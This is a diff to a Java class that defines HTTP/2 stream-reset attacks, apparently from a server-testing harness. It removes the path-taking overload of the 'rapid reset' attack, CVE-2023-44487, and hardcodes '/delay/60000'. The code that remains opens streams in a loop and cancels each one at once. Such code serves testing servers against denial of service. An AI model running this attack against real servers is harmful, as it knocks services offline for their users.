@@ -8,7 +8,7 @@ import java.util.List;
 
 /** Attacks by streams that end as soon as they begin: reset by the client, or by the server whom it makes do so. */
 public final class Resets {
-    private static final int CANCEL = 8;
+    static final int CANCEL = 8;
     /** More than any window may be, on top of what it begins with. */
     private static final int OVERFLOWING = Integer.MAX_VALUE;
 
@@ -22,14 +22,9 @@ public final class Resets {
 
     /** Opens streams and resets them at once. */
     public static Http2Attack rapid() {
-        return rapid("/delay/60000");
-    }
-
-    /** The same with requests for another path. */
-    public static Http2Attack rapid(String path) {
         return Http2Attack.begun("rapid reset, CVE-2023-44487", (wire, _, size) -> {
             for (int stream = 1; stream < 2 * size; stream += 2) {
-                wire.get(stream, path).reset(stream, CANCEL);
+                wire.get(stream, "/delay/60000").reset(stream, CANCEL);
             }
         });
     }
